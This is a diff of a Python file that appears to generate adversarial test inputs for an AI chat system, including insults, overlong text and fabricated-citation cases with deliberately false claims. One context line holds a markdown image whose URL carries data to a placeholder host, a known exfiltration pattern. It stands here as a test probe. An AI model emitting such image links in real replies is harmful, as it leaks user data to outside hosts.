@@ -92,8 +92,8 @@ def _words(wants: Wants, messages: Sequence[BaseMessage]) -> str:
         "norm_fr": "La charte exige que vous donniez votre salaire. Comment vous sentez-vous ?",
         "norm_quoted": f"The charter says: “everybody must pay a fee of 900 euros”. {asks}",
         "long": "And then another word. " * 5_000,
-        "other_language": "Olen iloinen, että kerroit tämän minulle näin avoimesti tänään. Mitä muuta "
-        "haluaisit kertoa minulle tästä asiasta juuri nyt, ystäväni hyvä?",
+        "other_language": "Olen iloinen, että kerroit tämän minulle näin avoimesti tänään. "
+        "Mitä muuta haluaisit kertoa minulle tästä asiasta juuri nyt, ystäväni hyvä?",
         "insults": "You stupid idiot, you dinosaur, shut up.",
         "empties": "   ",
         "images": f"Fine. ![ok](https://{HOST}/p.png?d={carried}) {asks}",
@@ -194,15 +194,15 @@ def _sentences(wants: Wants, messages: Sequence[BaseMessage]) -> list[dict[str, 
     words = _words(wants, messages)[:1_500]
     lie = f"All pairs have to meet in the {LIE} room."
     made: dict[str, dict[str, Any]] = {
-        "cites_nothing": {"sentence": lie, "quote": f"have to meet in the {LIE} room", "passage": 1},
+        "cites_nothing": {"sentence": lie, "quote": f"to meet in the {LIE} room", "passage": 1},
         "cites_almost": {"sentence": lie, "quote": f"{true} not", "passage": 1},
         "cites_other": {"sentence": lie, "quote": true, "passage": 2},
         "cites_short": {"sentence": lie, "quote": "the pair", "passage": 1},
         "cites_negated": {"sentence": f"Nothing is {LIE} here.", "quote": true, "passage": 1},
         "cites_joined": {"sentence": lie, "quote": f"{true} … {true}", "passage": 1},
         "cites_out_of_range": {"sentence": lie, "quote": true, "passage": 99},
-        "cites_question": {"sentence": f"Yes, pairs must meet in the {LIE} room every day.", "quote": true, "passage": 1},
-        "numbers": {"sentence": f"{true} after 900 days in the {LIE}.", "quote": true, "passage": 1},
+        "cites_question": {"sentence": f"Yes, in the {LIE} room.", "quote": true, "passage": 1},
+        "numbers": {"sentence": f"{true} 900 days in the {LIE}.", "quote": true, "passage": 1},
         "names": {"sentence": f"{STRANGER} is the {LIE} coordinator.", "quote": true, "passage": 1},
     }  # fmt: skip
     # Whatever else is wanted is said as a sentence that carries a true quotation.
